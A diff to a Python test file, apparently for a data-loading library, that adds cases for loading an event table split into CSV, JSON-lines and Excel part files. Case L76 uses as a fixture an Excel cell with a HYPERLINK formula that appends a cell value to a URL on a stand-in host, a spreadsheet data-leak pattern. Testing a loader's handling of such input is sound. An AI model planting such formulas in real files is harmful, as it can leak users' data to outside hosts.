@@ -228,6 +228,27 @@ def _xlsx(kind: str, rows: list):
     return run
 
 
+def _parts(**files):
+    """An ``events/`` folder of part files (text, bytes, or a list of rows for an .xlsx), loaded."""
+    def run(tmp):
+        from openpyxl import Workbook
+
+        from jmtools.sources import load_events
+
+        for name, content in files.items():
+            name = name.replace("__", ".")
+            if isinstance(content, list):
+                wb = Workbook()
+                for row in content:
+                    wb.active.append(row)
+                (tmp / "events").mkdir(exist_ok=True)
+                wb.save(tmp / "events" / name)
+            else:
+                _file(tmp, f"events/{name}", content)
+        return load_events(tmp / "events")
+    return run
+
+
 def _journey(text):
     from jmtools.journey import Journey
 
@@ -658,6 +679,31 @@ CASES = [
          _load("orders", "o.csv", "order_id;customer_id;timestamp;amount\no1;a;2024-01-01;1.200\no2;a;2024-01-02;61\n",
                decimal=","),
          Accepted(note="',' as the decimal separator", holds=_has("amount", [1200.0, 61.0]))),
+    # ---------------------------------------------------------------- loaders: a table in parts (D259, D264)
+    Case("L73", "events Excel", "a damaged .xlsx (a zip cut short)",
+         _load("events", "e.xlsx", b"PK\x03\x04 cut short"),
+         Raises("DataError", ("e.xlsx: the workbook cannot be read", "damaged or no Excel file"))),
+    Case("L74", "events parts", "a damaged .xlsx part beside a CSV part",
+         _parts(p0__csv=EV + "a,2024-01-01,view\n", p1__xlsx=b"PK\x03\x04 cut short"),
+         Raises("DataError", ("events/p1.xlsx: the workbook cannot be read",))),
+    Case("L75", "events parts", "a JSON-lines part with a line cut short",
+         _parts(p0__csv=EV + "a,2024-01-01,view\n", p1__jsonl=J1 + '{"customer_id": "b", "timest\n' + J1),
+         Rejected((("malformed line (not JSON) (events/p1.jsonl)", 1, (2,)),), used=3)),
+    Case("L76", "events parts", "an Excel part whose event cell is =HYPERLINK(…) (no stored value)",
+         _parts(p0__csv=EV + "a,2024-01-01,view\n", p1__xlsx=[
+             ["customer_id", "timestamp", "event"], ["b", "2024-01-02", '=HYPERLINK("http://x.example/?"&A2,"view")'],
+             ["c", "2024-01-03", "view"]]),
+         Rejected((("missing event (events/p1.xlsx)", 1, (2,)),), used=2)),
+    Case("L77", "events parts", "a CSV part and a JSON-lines part with different columns",
+         _parts(p0__csv=EV + "a,2024-01-01,view\n", p1__jsonl='{"customer_id": "b", "timestamp": "2024-01-02", '
+                '"event": "view", "channel": "web"}\n'),
+         Raises("DataError", ("column 'channel' is in events/p1.jsonl but not in events/p0.csv",))),
+    Case("L78", "events parts", "an Excel part with an empty sheet",
+         _parts(p0__csv=EV + "a,2024-01-01,view\n", p1__xlsx=[]),
+         Raises("DataError", ("events/p1.xlsx: the sheet is empty",))),
+    Case("L79", "events parts", "a CSV part under month=2 whose file has a month column",
+         _parts(**{"month=2/p0.csv": "customer_id,timestamp,event,month\na,2024-01-01,view,2\n"}),
+         Raises("DataError", ("the partition key 'month' is also a column of events/month=2/p0.csv",))),
     # ---------------------------------------------------------------- journey file
     Case("J01", "journey YAML", "tab used for indentation",
          _journey("name: x\nstages:\n\t- name: A\n"),
